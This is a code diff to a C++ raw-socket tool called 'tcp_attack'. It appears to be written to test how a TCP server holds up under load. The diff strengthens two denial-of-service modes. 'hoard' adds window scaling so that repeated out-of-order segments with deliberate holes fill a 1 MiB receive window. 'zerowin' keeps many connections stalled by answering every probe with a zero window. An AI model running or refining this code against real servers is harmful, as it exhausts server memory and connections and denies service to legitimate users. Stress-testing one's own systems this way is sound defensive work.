@@ -18,7 +18,8 @@
 //       second, so the two runs compare.
 //   tcp_attack hoard   SRC SPORT DST DPORT SEGMENTS SECONDS
 //       one connection that sends SEGMENTS out-of-order 1000-byte segments, each leaving a hole
-//       of 1000 bytes before it, the first one past a hole at RCV.NXT, and keeps them unfilled.
+//       of 1000 bytes before it, the first one past a hole at RCV.NXT, over about 1 MiB of
+//       sequence space again and again (window scaling on), and keeps the holes unfilled.
 //   tcp_attack zerowin SRC SPORT0 DST DPORT N PATH SECONDS
 //       N connections from SPORT0.. that each GET PATH with a zero window and answer every probe
 //       with a zero window for SECONDS, then reset.
@@ -153,10 +154,13 @@ class Raw {
     const double end = Now() + timeout;
     for (;;) {
       const double left = end - Now();
-      if (left <= 0) return false;
-      pollfd p{rx_, POLLIN, 0};
-      if (poll(&p, 1, static_cast<int>(left * 1000) + 1) <= 0) continue;
-      const ssize_t n = recv(rx_, buf_, sizeof buf_, MSG_DONTWAIT);
+      ssize_t n = recv(rx_, buf_, sizeof buf_, MSG_DONTWAIT);
+      if (n < 0) {
+        if (left <= 0) return false;
+        pollfd p{rx_, POLLIN, 0};
+        poll(&p, 1, static_cast<int>(left * 1000) + 1);
+        continue;
+      }
       if (n < 40) continue;
       const size_t ihl = (buf_[0] & 15u) * 4;
       const size_t tot = std::min<size_t>(Get16(buf_ + 2), static_cast<size_t>(n));
@@ -195,6 +199,7 @@ uint32_t Addr(const char* s) {
 }
 
 const uint8_t kMssOpt[4] = {2, 4, 0x05, 0xb4};  // MSS 1460, nothing else: no SACK, no scaling
+const uint8_t kMssWsOpt[8] = {2, 4, 0x05, 0xb4, 1, 3, 3, 7};  // MSS 1460, window scale 7
 
 // A client connection driven by hand: our sequence space and what we have received in order.
 struct Conn {
@@ -205,10 +210,12 @@ struct Conn {
 };
 
 // Sends a SYN and waits for the SYN-ACK; completes the handshake with `window`.
-bool Connect(Raw& raw, Conn& c, uint32_t src, uint32_t dst, uint16_t dport, uint16_t window) {
+bool Connect(Raw& raw, Conn& c, uint32_t src, uint32_t dst, uint16_t dport, uint16_t window,
+             bool scale = false) {
   c.iss = Rand32();
   for (int attempt = 0; attempt < 3 && !c.established; ++attempt) {
-    raw.Send(src, c.sport, dst, dport, c.iss, 0, flag::kSyn, 65535, nullptr, 0, kMssOpt, 4);
+    raw.Send(src, c.sport, dst, dport, c.iss, 0, flag::kSyn, 65535, nullptr, 0,
+             scale ? kMssWsOpt : kMssOpt, scale ? 8 : 4);
     Segment s;
     const double end = Now() + 1.0;
     while (Now() < end && raw.Recv(&s, dst, src, end - Now())) {
@@ -440,7 +447,8 @@ int Hoard(int argc, char** argv) {
   g_rng ^= static_cast<uint64_t>(getpid()) << 20 ^ static_cast<uint64_t>(Now() * 1e6);
   Conn c;
   c.sport = sport;
-  if (!Connect(raw, c, src, dst, dport, 65535)) {
+  // Window scaling, so that the server's receive window (1 MiB) admits about 500 of them.
+  if (!Connect(raw, c, src, dst, dport, 65535, /*scale=*/true)) {
     std::printf("hoard: no handshake\n");
     return 1;
   }
@@ -460,8 +468,9 @@ int Hoard(int argc, char** argv) {
       max_sack_hint = std::max<uint32_t>(max_sack_hint, s.window);
     }
     if (i < segments && static_cast<double>(i) < rate * (Now() - start)) {
-      // Segment i covers [1000 + 2000 i, 2000 + 2000 i) past RCV.NXT: a hole before each.
-      const uint32_t seq = c.snd_nxt + 1000 + static_cast<uint32_t>(2000 * (i % 4096));
+      // Segment i covers [1000 + 2000 k, 2000 + 2000 k) past RCV.NXT, k = i mod 520: a hole
+      // before each, over about a 1 MiB window, again and again.
+      const uint32_t seq = c.snd_nxt + 1000 + static_cast<uint32_t>(2000 * (i % 520));
       raw.Send(src, sport, dst, dport, seq, c.rcv_nxt, flag::kAck, 65535, data, sizeof data);
       ++i;
     } else {
@@ -502,7 +511,7 @@ int ZeroWin(int argc, char** argv) {
     ++opened;
   }
   const double opened_at = Now() - start;
-  uint64_t probes = 0, data_bytes = 0, resets = 0, answered = 0;
+  uint64_t probes = 0, data_bytes = 0, resets = 0, answered = 0;  // probes: segments back
   while (Now() - start < seconds) {
     Segment s;
     if (!raw.Recv(&s, dst, src, 0.05)) continue;
@@ -514,11 +523,10 @@ int ZeroWin(int argc, char** argv) {
       ++resets;
       continue;
     }
-    if (s.len) {
-      ++probes;
-      // A zero-window probe carries a byte past the window (or at RCV.NXT): keep nothing.
-      data_bytes += s.len;
-    }
+    // A zero-window probe is a segment below SND.UNA without data (Linux's tcp_xmit_probe_skb);
+    // data past a zero window would be the server ignoring it. Keep nothing either way.
+    ++probes;
+    data_bytes += s.len;
     raw.Send(src, c.sport, dst, dport, c.snd_nxt, c.rcv_nxt, flag::kAck, 0, nullptr, 0);
     ++answered;
   }
@@ -528,7 +536,7 @@ int ZeroWin(int argc, char** argv) {
     if (!c.reset) ++alive;
     raw.Send(src, c.sport, dst, dport, c.snd_nxt, 0, flag::kRst, 0, nullptr, 0);
   }
-  std::printf("zerowin: opened=%d of %d in %.1f s, alive=%d, probes=%llu probe_bytes=%llu "
+  std::printf("zerowin: opened=%d of %d in %.1f s, alive=%d, segments_back=%llu data_bytes=%llu "
               "answered=%llu resets_back=%llu seconds=%.1f\n",
               opened, n, opened_at, alive, (unsigned long long)probes,
               (unsigned long long)data_bytes, (unsigned long long)answered,
